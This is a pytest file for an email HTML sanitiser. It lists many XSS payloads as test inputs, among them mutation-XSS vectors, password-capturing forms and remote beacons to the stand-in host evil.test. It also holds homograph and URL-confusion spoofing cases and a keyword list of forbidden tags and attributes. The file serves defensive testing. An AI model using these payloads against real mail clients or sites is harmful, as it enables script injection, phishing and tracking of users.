"""HTML of a mail, made safe: rows 39 to 42 of the field notes."""

import time

import pytest

from connectors.mime import limits, sanitise

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" data:text/html,<script>alert(1)</script>">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<base href="http://evil.test/">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<form action="http://evil.test/"><input name=password autofocus onfocus=alert(1)></form>',
    "<style>@import url(http://evil.test/x.css);*{background:url(http://evil.test/?c)}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px">cover</div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<template><script>alert(1)</script></template>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<img src="http://evil.test/p.gif" srcset="http://evil.test/a 1x">',
    "<link rel=stylesheet href=http://evil.test/x>",
    "<video poster=http://evil.test/v></video>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    '<body background="http://evil.test/b" onload=alert(1)>',
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<table background="http://evil.test/"><td background="http://evil.test/">x',
]
FORBIDDEN = """<script onerror onload= onfocus= onbegin javascript: data: <iframe <base <meta <form <input <style
    style= <svg <math <object <img <link <video <template evil.test background= srcset"""


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_that_acts_or_is_remote_survives(html):
    shown = sanitise(f"<html><body>before {html} after</body></html>").lower()
    # What stands in an attribute is text: only markup counts.
    tags = [piece.partition(">")[0] for piece in shown.split("<")[1:]]
    markup = "".join(f"<{tag}" for tag in tags if "title=" not in tag)
    assert [word for word in FORBIDDEN.split() if word in markup] == []


def test_what_people_write_is_kept():
    html = (
        '<p>Total <b>12,00&nbsp;€</b></p><table><tr><td colspan="2">Pos</td></tr></table><ul><li>x</li></ul>'
    )
    shown = sanitise(html)
    for piece in ("<b>12,00", "€</b>", 'colspan="2"', "<li>x</li>"):
        assert piece in shown


def test_a_link_shows_where_it_would_lead_and_leads_nowhere():
    shown = sanitise(
        '<a href="https://evil.example/a?b" onclick="x()" target=_top>https://bank.example</a> now'
    )
    words, _, below = shown.partition("<section")
    assert words == (
        '<span class="linked">https://bank.example</span><a href="#address-1">evil.example</a> now'
    )
    assert '<li id="address-1">https://evil.example/a?b</li>' in below


def test_words_that_are_the_address_stand_alone():
    for link in (
        '<a href="https://a.example/">https://a.example/</a>',
        '<a href="https://a.example/">a.example</a>',
        '<a href="mailto:box@a.example">box@a.example</a>',
    ):
        assert "address-1" not in sanitise(link)


@pytest.mark.parametrize(
    ("address", "host"),
    [
        ("https://bank.example@evil.example/", "evil.example"),
        ("https://evil.example\\@bank.example/", "evil.example"),
        ("https:\\\\evil.example/bank.example", "evil.example"),
        ("https:///evil.example#@bank.example", "evil.example"),
        ("&#10;ht&#9;tps:evil.example:8443?bank.example", "evil.example:8443"),
        ("https://b\u0430nk.example/", "xn--bnk-6cd.example"),
        ("mailto:x@evil.example?cc=y@bank.example", "x@evil.example"),
    ],
)
def test_the_sign_behind_a_link_is_the_host_that_a_browser_would_ask(address, host):
    assert f'<a href="#address-1">{host}</a>' in sanitise(f'<a href="{address}">bank.example</a>')


def test_letters_that_look_like_others_are_told_even_where_the_words_are_the_address():
    shown = sanitise('<a href="https://b\u0430nk.example/">https://b\u0430nk.example/</a>')
    assert ">xn--bnk-6cd.example</a>" in shown


def test_a_mail_cannot_name_the_places_that_links_point_to():
    shown = sanitise(
        '<p id="address-1">https://bank.example</p><a href="#address-1">x</a><a href="/signout/">y</a>'
        '<a href="https://evil.example/">z</a>'
    )
    assert shown.count('id="address-1"') == shown.count('href="#address-1"') == 1
    assert "signout" not in shown


def test_the_list_of_addresses_is_bounded():
    many = "".join(f'<a href="https://a{number}.example/">x</a>' for number in range(limits.LINKS + 5))
    assert sanitise(many).count("<li") == limits.LINKS
    assert sanitise(f'<a href="https://a.example/{"b" * 5000}">x</a>').count("b") < limits.ADDRESS


def test_images_become_their_text():
    assert (
        sanitise('<img src="cid:1" alt="Logo &lt;b&gt;">')
        == '<span class="image-placeholder">Logo &lt;b&gt;</span>'
    )


def test_row_42_forms_are_removed_and_their_text_kept():
    assert "Sign here" in sanitise("<form action=x>Sign here<input></form>")


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<font a=b><p>" * 100_000,
        "<svg><style>" + "<div>" * 100_000,
        "<table><tr><td>" * 50_000,
        '<div title="</div>">' * 50_000,
        "&" + "a" * 1_000_000 + ";" + "<a b=c " * 50_000,
        "<" * 500_000,
        "<b><i>" * 100_000 + "x" * 1_000_000,
        "<a href=http://a.example>x" * 80_000,
        "<a href=http://a.example><b>" * 60_000,
    ],
)
def test_row_41_deep_and_broken_markup_ends_in_budget(html):
    started = time.process_time()
    sanitise(html)
    assert time.process_time() - started < 3


@pytest.mark.parametrize(
    "html", ["", " ", "\x00", "<", "<!--", "plain", "<?xml version='1.0' encoding='utf-16'?><p>x", "\ud800"]
)
def test_odd_input_gives_text(html):
    assert isinstance(sanitise(html), str)
